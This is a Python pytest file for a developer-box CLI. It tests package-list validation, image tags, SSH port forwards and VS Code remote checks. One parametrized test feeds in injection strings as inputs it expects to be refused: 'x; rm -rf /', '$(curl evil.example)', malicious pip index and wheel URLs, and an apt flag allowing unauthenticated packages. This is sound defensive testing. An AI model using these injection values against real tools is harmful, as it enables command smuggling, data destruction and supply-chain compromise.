"""Issue 11, the pure parts: apt/pip validation and the tag, forward specs, VS Code's requirements."""
from __future__ import annotations

import os
import subprocess
import sys

import pytest

from devbox.config import load_spec
from devbox.errors import ConfigError
from devbox.image import ImageSpec, content_tag
from devbox.tunnel import Forward, forward_options, parse_forward
from devbox.verify import FAIL, OK, VSCodeProbe, vscode_check


def devbox(*args, cwd, home):
    env = {**os.environ, "HOME": str(home)}
    return subprocess.run([sys.executable, "-m", "devbox.cli", *args], capture_output=True, text=True, env=env, cwd=cwd, timeout=60)


@pytest.mark.parametrize("key, entry", [
    ("apt", "x; rm -rf /"), ("pip", "x; rm -rf /"),
    ("pip", "--index-url=https://evil.example/simple"), ("apt", "-oAPT::Get::AllowUnauthenticated=true"),
    ("pip", "pkg @ https://evil.example/pkg.whl"), ("pip", "$(curl evil.example)"), ("apt", "a*"), ("pip", "-e."),
])
def test_a_bad_apt_or_pip_entry_is_refused_with_exit_2_before_anything_runs(tmp_path, key, entry):
    (tmp_path / "devbox.toml").write_text(f"[hosts.gpu-host-3]\n{key} = [\"jupyterlab\", {entry!r}]\n".replace("'", '"'))
    done = devbox("up", "gpu-host-3", cwd=tmp_path, home=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.startswith("devbox: error: ") and done.stderr.count("\n") == 1
    assert f"'{key}'" in done.stderr and "version pin" in done.stderr
    assert not (tmp_path / ".ssh").exists(), "nothing was written"
    flag = devbox("build", f"--{key}", entry, cwd=tmp_path, home=tmp_path)
    assert flag.returncode == 2 and flag.stderr.count("\n") == 1 and f"--{key}" in flag.stderr


def test_the_same_lists_give_the_same_tag_and_a_new_list_a_new_one(tmp_path):
    def tag(text: str) -> str:
        (tmp_path / "devbox.toml").write_text(text)
        return content_tag(load_spec("h", tmp_path / "devbox.toml").image)

    plain = tag("")
    one = tag('[defaults]\napt = ["jq", "htop"]\npip = ["jupyterlab", "numpy<2"]\n')
    assert one == tag('[defaults]\napt = ["htop", "jq", "jq"]\npip = ["numpy<2", "jupyterlab"]\n')
    assert len({plain, one, tag('[defaults]\napt = ["jq", "htop"]\npip = ["jupyterlab"]\n'),
                tag('[defaults]\napt = ["jq"]\npip = ["jupyterlab", "numpy<2"]\n')}) == 4
    # per host beats [defaults], like every other key
    (tmp_path / "devbox.toml").write_text('[defaults]\npip = ["a"]\n[hosts.h2]\npip = ["b==1.0"]\n')
    assert load_spec("h2", tmp_path / "devbox.toml").pip == ("b==1.0",) and load_spec("h1", tmp_path / "devbox.toml").pip == ("a",)


def test_extras_reach_the_build_as_args_and_build_command_rebuilds_the_same_tag():
    spec = ImageSpec("local/x:1", apt=("htop", "jq=1.6-2.1"), pip=("jupyterlab", "ray[default]==2.9"))
    assert spec.build_args()["DEVBOX_APT"] == "htop jq=1.6-2.1"
    assert spec.build_args()["DEVBOX_PIP"] == "jupyterlab ray[default]==2.9"
    assert "DEVBOX_APT" not in ImageSpec("local/x:1").build_args()
    assert "--pip 'ray[default]==2.9'" in spec.build_command() and "--apt jq=1.6-2.1" in spec.build_command()


def test_a_spec_with_extras_keeps_its_container_hash_out_of_the_extras():
    """The lists are in the image tag; the container hash sees them only through it."""
    from devbox.config import BoxSpec

    assert BoxSpec("h").spec_hash(2200, "t") == BoxSpec("h", apt=("jq",), pip=("x",)).spec_hash(2200, "t")
    assert BoxSpec("h").spec_hash(2200, "t") != BoxSpec("h").spec_hash(2200, "t2")


@pytest.mark.parametrize("text, forward", [("6006", Forward(6006, 6006)), ("8888:18888", Forward(8888, 18888))])
def test_forward_specs(text, forward):
    assert parse_forward(text) == forward
    assert forward_options([forward])[-2:] == ["-L", f"127.0.0.1:{forward.local_port}:127.0.0.1:{forward.box_port}"]


@pytest.mark.parametrize("text", ["", "x", "0", "70000", "1:2:3", "-L1", "80:-1"])
def test_bad_forward_specs_are_config_errors(text):
    with pytest.raises(ConfigError) as err:
        parse_forward(text)
    assert err.value.exit_code == 2 and "6006:16006" in err.value.remedy


GOOD = "tar=yes\nfetch=curl\nglibc=2.36\nglibcxx=3.4.30\nhome=ok\ntmp=ok\n"


def test_vscode_requirements_met_on_a_recorded_bookworm_probe():
    assert vscode_check(VSCodeProbe.parse(GOOD), "", "").status == OK


@pytest.mark.parametrize("change, forward, sftp, needle", [
    ("fetch=", "", "", "remote.SSH.localServerDownload"),
    ("tar=no", "", "", 'apt = ["tar"]'),
    ("glibc=2.17", "", "", "glibc 2.17 < 2.28"),
    ("glibcxx=3.4.19", "", "", "GLIBCXX 3.4.19 < 3.4.25"),
    ("glibcxx=", "", "", "GLIBCXX not found"),
    ("home=Permission denied", "", "", "in home (Permission denied)"),
    ("tmp=/tmp/x: Permission denied", "", "", "in /tmp"),
    ("", "channel 3: open failed: administratively prohibited", "", "AllowTcpForwarding local"),
    ("", "", "subsystem request failed", "Subsystem sftp"),
])
def test_each_unmet_vscode_requirement_fails_with_its_remedy(change, forward, sftp, needle):
    key = change.split("=", 1)[0]
    text = "\n".join(line for line in GOOD.splitlines() if not key or not line.startswith(key + "=")) + "\n" + change
    check = vscode_check(VSCodeProbe.parse(text), forward, sftp)
    assert check.status == FAIL and needle in check.detail and " | " not in check.detail, check.detail


@pytest.mark.parametrize("args, needle", [
    (["jupyter", "gpu-host-3", "--port", "-5"], "--port '-5' is not a port number"),
    (["jupyter", "gpu-host-3", "--port", "70000"], "not a port number"),
    (["jupyter", "gpu-host-3"], "run `devbox up gpu-host-3` first"),
    (["forward", "gpu-host-3", "6006"], "run `devbox up gpu-host-3` first"),
    (["forward", "gpu-host-3", "6006", "7007:6006"], "the same local port is given twice"),
    (["forward", "bad;host", "6006"], "not a valid host name"),
])
def test_jupyter_and_forward_refuse_bad_input_before_connecting(tmp_path, args, needle):
    done = devbox(*args, cwd=tmp_path, home=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.startswith("devbox: error: ") and done.stderr.count("\n") == 1 and needle in done.stderr


CTRL_C_IN_THE_RELAY_THREAD = """
import signal, sys, threading, time
from devbox.tunnel import Tunnel, run_until_interrupted
ssh = [sys.executable, "-c", "import sys, time; print('ssh: up', file=sys.stderr, flush=True); time.sleep(60)"]
tunnel = Tunnel(ssh, lambda: True)
tunnel.open()
def ctrl_c():
    time.sleep(1)
    relay = next(t for t in threading.enumerate() if t.name == "tunnel-relay")
    signal.pthread_kill(relay.ident, signal.SIGINT)  # the kernel may pick any thread
threading.Thread(target=ctrl_c, daemon=True).start()
run_until_interrupted(tunnel)
print("closed", tunnel.process.poll() is not None)
"""


def test_ctrl_c_that_lands_in_the_relay_thread_still_closes_the_tunnel():
    done = subprocess.run([sys.executable, "-c", CTRL_C_IN_THE_RELAY_THREAD], capture_output=True, text=True, timeout=30)
    assert done.stdout.strip() == "closed True", done.stderr


def test_stream_delivery_without_the_image_names_the_build_line_that_makes_its_tag():
    from devbox.config import BoxSpec
    from devbox.errors import DevboxError
    from devbox.facts import Facts
    from devbox.plan import delivery_step

    spec = BoxSpec("h", delivery="stream", apt=("jq",), pip=("numpy<2",))
    with pytest.raises(DevboxError) as err:
        delivery_step(spec, Facts(), content_tag(spec.image), local_image=False)
    assert err.value.exit_code == 2 and spec.image.build_command() in err.value.remedy
    assert "--apt jq --pip 'numpy<2'" in err.value.remedy
